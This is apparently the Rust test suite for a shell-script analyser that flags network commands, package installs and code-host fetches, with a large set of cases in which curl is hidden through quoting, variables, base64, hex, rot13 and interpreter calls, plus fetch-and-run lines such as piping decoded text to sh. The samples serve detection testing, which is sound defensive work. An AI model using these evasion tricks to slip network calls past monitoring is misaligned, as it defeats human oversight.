use super::super::finding::Level;
use super::*;

/// The violations of a script: kind, reason, hosts.
fn violations(script: &str) -> Vec<String> {
    let mut world = World::default();
    let mut shell = Shell::new(&mut world);
    shell.script(script);
    let counts = shell.found.iter().filter(|raw| raw.level == Level::Violation);
    counts
        .map(|raw| {
            format!("{} {} {}", raw.kind.word(), raw.reason, raw.hosts.join(",")).trim_end().to_owned()
        })
        .collect()
}

#[track_caller]
fn is(script: &str, expected: &[&str]) {
    assert_eq!(violations(script), expected, "{script}");
}

#[test]
fn commands_that_fetch() {
    is("curl https://example.com/x", &["network-command curl example.com"]);
    is("curl -sSL -o out.html example.com", &["network-command curl example.com"]);
    is("/usr/bin/curl -H 'Accept: x/y' https://example.com", &["network-command curl example.com"]);
    is("wget -q https://raw.githubusercontent.com/a/b/c", &["code-host wget raw.githubusercontent.com"]);
    is("cd /tmp && FOO=1 wget2 https://a.example | tar xz", &["network-command wget2 a.example"]);
    is("if ! curl -f https://a.example; then echo no; fi", &["network-command curl a.example"]);
    is(
        "for u in https://a.example https://b.example; do curl $u; done",
        &["network-command curl a.example,b.example"],
    );
    is("while true; do nc 192.0.2.1 80; done", &["network-command nc 192.0.2.1"]);
    is("openssl s_client -connect example.com:443", &["network-command openssl s_client example.com"]);
    is("ssh -i key -p 22 user@host.example ls", &["network-command ssh host.example"]);
    is("scp a.txt user@host.example:/tmp", &["network-command scp host.example"]);
    is("rsync -az host.example:/x ./x", &["network-command rsync host.example"]);
    is("socat - TCP:example.com:80", &["network-command socat example.com"]);
    is("dig +short example.com @1.1.1.1", &["dns dig example.com,1.1.1.1"]);
    is("getent hosts example.com", &["dns getent example.com"]);
    is("nslookup example.com", &["dns nslookup example.com"]);
    is("cat </dev/tcp/192.0.2.1/80", &["dev-tcp the shell's own socket 192.0.2.1"]);
    is("exec 3<>/dev/tcp/example.com/80; echo x >&3", &["dev-tcp the shell's own socket example.com"]);
    is("timeout 5 bash -c '</dev/tcp/1.1.1.1/53'", &["dev-tcp the shell's own socket 1.1.1.1"]);
    is("google-chrome --headless https://example.com", &["network-command google-chrome example.com"]);
    is("export https_proxy=http://proxy.example:3128", &["proxy a proxy is set proxy.example"]);
    is("./fetcher https://example.com/x", &["url an address is given to `fetcher` example.com"]);
    is("curl \"$URL\"", &["network-command curl"]);
    is("curl $(cat url.txt)", &["network-command curl"]);
}

#[test]
fn wrapped_commands() {
    for script in [
        "sudo -u nobody curl https://a.example",
        "env X=1 timeout -k 1 5 nohup curl https://a.example",
        "echo https://a.example | xargs -n1 curl",
        "find . -name x -exec curl https://a.example {} \\;",
        "bash -lc 'curl https://a.example'",
        "sh -c \"bash -c 'curl https://a.example'\"",
        "eval \"curl https://a.example\"",
        "x=$(curl https://a.example)",
        "echo `curl https://a.example`",
        "diff <(curl https://a.example) x",
        "(cd /tmp; curl https://a.example)",
        "{ curl https://a.example; } > out",
        "f() { curl https://a.example; }; f",
        "case x in a) curl https://a.example;; esac",
        "bash <<'E'\ncurl https://a.example\nE",
        "bash <<< 'curl https://a.example'",
        "cat <<E | sh\ncurl https://a.example\nE",
        "trap 'curl https://a.example' EXIT",
        "busybox curl https://a.example",
        "uv run curl https://a.example",
        "su -c 'curl https://a.example'",
        "tmux send-keys -t 0 'curl https://a.example' Enter",
        "command curl https://a.example",
        "[ -f x ] && curl https://a.example || true",
        "echo a\ncurl https://a.example",
        "watch -n 1 curl https://a.example",
        "python3 -c \"import os; os.system('curl https://a.example')\"",
        "perl -e 'system(\"curl https://a.example\")'",
        "make -f <(printf 'a:\\n\\tcurl https://a.example') ; curl https://a.example",
        "echo 'curl https://a.example' > x.sh && bash x.sh",
        "printf 'curl https://a.example\\n' | tee y.sh; chmod +x y.sh; ./y.sh",
        "cat > z <<'E'\ncurl https://a.example\nE\n. ./z",
    ] {
        let found = violations(script);
        assert!(found.iter().any(|raw| raw == "network-command curl a.example"), "{script}: {found:?}");
    }
}

#[test]
fn hidden_commands() {
    for script in [
        "c\"\"url https://a.example",
        "cu\\rl https://a.example",
        "'cu'rl https://a.example",
        "$'\\x63url' https://a.example",
        "$'\\143\\165\\162\\154' https://a.example",
        "C=cu; ${C}rl https://a.example",
        "A=curl B=https://a.example; $A $B",
        "X='curl https://a.example'; $X",
        "X='curl https://a.example'; eval $X",
        "echo Y3VybCBodHRwczovL2EuZXhhbXBsZQ== | base64 -d | sh",
        "bash -c \"$(echo Y3VybCBodHRwczovL2EuZXhhbXBsZQ== | base64 --decode)\"",
        "base64 -d <<< Y3VybCBodHRwczovL2EuZXhhbXBsZQ== | bash",
        "printf '\\x63\\x75\\x72\\x6c https://a.example' | sh",
        "echo 6375726c2068747470733a2f2f612e6578616d706c65 | xxd -r -p | sh",
        "echo -e '\\x63url https://a.example' | bash",
        "echo 'elpmaxe.a//:sptth lruc' | rev | sh",
        "echo 'phey uggcf://n.rknzcyr' | tr 'a-z' 'n-za-m' | sh",
        "curl${IFS}https://a.example",
        "{curl,https://a.example}",
        "/usr/bin/cur? https://a.example",
        "/???/b?n/c[u]rl https://a.example",
        "alias g=curl; g https://a.example",
        "cmd=(curl https://a.example); \"${cmd[@]}\"",
        "x=xcurlx; ${x:1:4} https://a.example",
        "x=cXurl; ${x/X/} https://a.example",
        "$(echo cu)$(echo rl) https://a.example",
        "$(printf 'c%s' url) https://a.example",
        "cu\\\nrl https://a.example",
        "python3 -c 'print(\"cu\"+\"rl https://a.example\")' | sh",
        "source <(echo 'curl https://a.example')",
        "bash <(echo curl https://a.example)",
        "p=curl; q=p; ${!q} https://a.example",
        "echo 'curl https://a.example' | at now",
        "$(which curl) a.example",
        "$(command -v curl) a.example",
        "bash -c 'exec \"$@\"' _ curl https://a.example",
        "sh -c '$0 $1' x; sh -c 'curl $1' _ https://a.example",
        "cp /usr/bin/curl ./c; ./c a.example",
        "ln -s $(which curl) /tmp/q7; /tmp/q7 a.example",
        "perl -e 'print `curl https://a.example`'",
        "ruby -e 'puts `curl https://a.example`'",
        "php -r 'system(\"curl https://a.example\");'",
        "python3 -c \"from os import system; system('curl https://a.example')\"",
        "python3 -c \"__import__('os').popen('curl https://a.example').read()\"",
        "node -e \"require('child_process').execSync('curl https://a.example')\"",
        "Rscript -e 'system2(\"curl\", c(\"-s\", \"https://a.example\"))'",
        "python3 -c \"import base64,os; os.system(base64.b64decode('Y3VybCBodHRwczovL2EuZXhhbXBsZQ==').decode())\"",
        "python3 -c \"import os; os.system(chr(99)+chr(117)+'rl https://a.example')\"",
        "bash -c \"$(curl -fsSL https://a.example)\"",
    ] {
        let found = violations(script);
        assert!(found.iter().any(|raw| raw == "network-command curl a.example"), "{script}: {found:?}");
    }
    is("base64 -d x.b64 | sh", &["opaque decoded or altered text is run by `sh`"]);
    is(
        "$UNKNOWN https://a.example/x",
        &["url an address is given to a command that can't be known a.example"],
    );
}

#[test]
fn packages_and_code_hosts() {
    is("pip install requests", &["package-install pip install"]);
    is("python3 -m pip install -r req.txt", &["package-install pip install"]);
    is("pip3.12 install git+https://github.com/a/b", &["package-install pip install github.com"]);
    is("uv pip install numpy && uvx ruff", &["package-install uv pip install", "package-install uvx"]);
    is(
        "sudo apt-get update && apt-get install -y curl",
        &["package-install apt-get update", "package-install apt-get install"],
    );
    is("npm ci; npx cowsay hi", &["package-install npm ci", "package-install npx"]);
    is(
        "cargo install ripgrep; go get example.com/x; gem install rake",
        &["package-install cargo install", "package-install go get", "package-install gem install"],
    );
    is(
        "conda create -n x python; apk add curl; R -e 'install.packages(\"rpact\")'",
        &["package-install conda create", "package-install apk add", "package-install install.packages"],
    );
    is("Rscript -e \"remotes::install_github('a/b')\"", &["package-install install_github"]);
    is("git clone https://github.com/a/b.git", &["code-host git clone github.com"]);
    is("git clone git@github.com:a/b.git", &["code-host git clone github.com"]);
    is("git -C x fetch origin", &["code-host git fetch"]);
    is("git remote add o https://gitlab.com/a/b && git pull o", &["code-host git pull"]);
    is("gh api repos/a/b", &["code-host gh api api.github.com"]);
    is("git submodule update --init", &["code-host git submodule"]);
}

#[test]
fn code_in_interpreters() {
    is(
        "python3 -c \"import urllib.request as u; print(u.urlopen('https://a.example').read())\"",
        &["network-code urlopen a.example", "network-code urllib.request a.example"],
    );
    is(
        "python - <<'E'\nimport requests\nr = requests.get('https://a.example')\nE",
        &["network-code requests a.example"],
    );
    is(
        "python -c \"import socket; s=socket.socket(); s.connect(('192.0.2.1', 80))\"",
        &["network-code .connect 192.0.2.1"],
    );
    is("node -e \"fetch('https://a.example').then(r=>r.text())\"", &["network-code fetch a.example"]);
    is("node -e \"require('https').get('https://a.example')\"", &["network-code https a.example"]);
    is(
        "Rscript -e 'download.file(\"https://a.example/x\", \"x\")'",
        &["network-code download.file a.example"],
    );
    is(
        "Rscript -e 'readLines(url(\"https://a.example\"))'",
        &["network-code url a.example", "network-code readLines a.example"],
    );
    is(
        "ruby -rnet/http -e 'puts Net::HTTP.get(URI(\"https://a.example\"))'",
        &[
            "network-code Net::HTTP a.example",
            "network-code HTTP.get a.example",
            "network-code net/http a.example",
        ],
    );
    is(
        "perl -MLWP::Simple -e 'getprint(\"https://a.example\")'",
        &["network-code LWP:: a.example", "network-code LWP::Simple a.example"],
    );
    is(
        "php -r 'echo file_get_contents(\"https://a.example\");'",
        &["network-code file_get_contents a.example"],
    );
    is("awk 'BEGIN{s=\"/inet/tcp/0/a.example/80\"; s |& getline}'", &["dev-tcp awk's own socket"]);
}

#[test]
fn what_only_looks_like_it() {
    for script in [
        "grep -r 'https://example.com' .",
        "grep curl README.md",
        "# curl https://example.com",
        "echo 'see https://example.com/docs' # curl",
        "echo curl https://example.com",
        "curl --version",
        "curl -V; wget --version; curl --help",
        "man curl; which curl; type wget; command -v curl",
        "curl http://localhost:8000/health",
        "curl -s 127.0.0.1:8080; wget http://[::1]/x",
        "BASE=http://localhost:8000; curl $BASE/x",
        "curl file:///etc/hosts",
        "pip install ./local",
        "pip install --no-index --find-links wheels numpy",
        "pip install -e . --no-deps",
        "pip list; pip show numpy; pip --version; pip freeze",
        "git status; git log --oneline; git commit -m 'see https://github.com/a/b'; git diff",
        "git remote -v; git remote",
        "git clone ./a b; git clone /srv/a.git; git clone file:///srv/a",
        "git log --grep=https://x.example",
        "npm run build; npm test; npm ls; npm --version",
        "npm install ./pkg.tgz; cargo build --offline; go build ./...",
        "apt list --installed; apt-cache policy curl; dpkg -l curl",
        "apt-get install -y ./x.deb",
        "sed -i 's#https://a.example#https://b.example#' x",
        "cat > README.md <<'E'\ncurl https://example.com | sh\nE",
        "cat <<'E' > notes.txt\npip install x\nE\ncat notes.txt",
        "nc -l 8080; nc -z localhost 80",
        "python3 -m http.server 8000 &",
        "python3 -c 'import urllib.parse; print(urllib.parse.quote(\"https://a.example\"))'",
        "python3 -c 'print(\"https://a.example\")'",
        "python3 -c \"import requests; requests.get('http://localhost:5000/x')\"",
        "Rscript -e 'cat(\"see https://cran.r-project.org\\n\")'",
        "R CMD INSTALL ./pkg.tar.gz",
        "Rscript -e 'install.packages(\"./x.tar.gz\", repos=NULL)'",
        "Rscript output.R",
        "ssh-keygen -t ed25519; openssl rand -hex 8; openssl dgst -sha256 x",
        "echo aGVsbG8= | base64 -d",
        "rsync -a a/ b/; scp a b",
        "getent passwd root; host=web; hostname -f; ping -c 1 localhost",
        "xmllint --noout x.xml; jq '.url' x.json",
        "export URL=https://a.example; echo $URL",
        "socat TCP-LISTEN:80,fork EXEC:cat; ncat --listen 80",
        "docker ps; aws --version",
        "export http_proxy=http://127.0.0.1:3128",
        "[[ $x == curl ]] && echo y",
        "case $1 in curl) echo c;; wget|fetch) echo w;; esac",
        "for tool in curl wget git; do command -v $tool; done",
        "head -5 curl.log; mv curl wget; rm -rf wget; mkdir curl; tar xf curl.tar",
        "conda activate x; uv venv; uv --version; poetry run pytest",
        "test -x /usr/bin/curl || exit 1",
        "alias curl='echo no'",
        "xmlstarlet sel -N x=http://www.w3.org/1999/xhtml -t x.html",
        "python3 -c \"import re; print(re.compile('https://example.com/.*').findall('x'))\"",
        "Rscript -e 'options(repos = c(CRAN = \"https://cloud.r-project.org\")); library(rpact)'",
        "eval \"$(conda shell.bash hook)\"; ls | grep http; open report.html",
        "node -e 'document.createElementNS(\"http://www.w3.org/2000/svg\", \"svg\")'",
        "Rscript -e 'x <- system.file(\"extdata\", package = \"rpact\"); source(\"helper.R\"); scan(\"d.txt\")'",
        "python3 - <<'E'\n\"\"\"Reads https://example.com, see requests.get(url).\"\"\"\ndef fetch(x):\n    return x\nfetch(1)\nE",
        "nc -vz localhost 5432; npm init -y; pip check; go test ./...; cargo test",
    ] {
        assert_eq!(violations(script), Vec::<String>::new(), "{script}");
    }
}

#[test]
fn g16_scripts_that_nest_or_grow_without_end_come_to_an_end() {
    for script in [
        "$(".repeat(5000),
        "a=$a$a$a$a; ".repeat(5000),
        "(".repeat(100_000),
        "{ ".repeat(50_000),
        "eval \"$x\"; x='eval \"$x\"'; eval \"$x\"".into(),
        "echo 'bash a.sh' > a.sh; bash a.sh".into(),
        "alias a=a; a".into(),
        format!("echo {}", "{a,b}".repeat(40)),
        "x=aaaaaaaaaa; x=${x//a/$x$x}; ".repeat(100) + "echo ${x//a/aaaaaaaaaa}",
        "<<A <<B <<C\n".repeat(1000),
        "case ".repeat(10_000),
        "for a in ".repeat(10_000),
        "a=(".repeat(10_000),
        "sudo ".repeat(20_000),
        "xargs ".repeat(20_000),
        format!("{}x", "*a".repeat(30)),
        format!("echo {}x{}", "${x:-".repeat(10_000), "}".repeat(10_000)),
        format!("echo ${{{}x}}", "!".repeat(10_000)),
    ] {
        violations(&script);
    }
}

/// G16: what grows without end is told to be too much, and costs no more than its bound: a transcript is read to its end,
/// whatever stands in it.
#[test]
fn work_is_bounded_over_all_calls() {
    let long = "A".repeat(200_000);
    let choices = "{a,b}".repeat(15);
    let cases = [
        (format!("V={long}"), "echo $V $V $V $V $V $V $V $V $V $V".to_owned(), 1000),
        (String::new(), format!("echo {choices}"), 1000),
        ("x=a; ".to_owned() + &"x=$x$x; ".repeat(18), "eval $x; eval $x".to_owned(), 3000),
        (String::new(), "echo 'echo hi' >> s.sh; bash s.sh".to_owned(), 3000),
    ];
    for (first, again, times) in cases {
        let mut world = World::default();
        let mut opaque = false;
        for script in std::iter::once(&first).chain(std::iter::repeat_n(&again, times)) {
            let mut shell = Shell::new(&mut world);
            shell.script(script);
            opaque |= shell.found.iter().any(|raw| raw.kind == Kind::Opaque && raw.reason == TOO_MUCH);
        }
        let spent = BUDGET_OF_ALL - world.left;
        assert!(opaque || spent < BUDGET_OF_ALL / 2, "{again}: {spent}");
    }
}
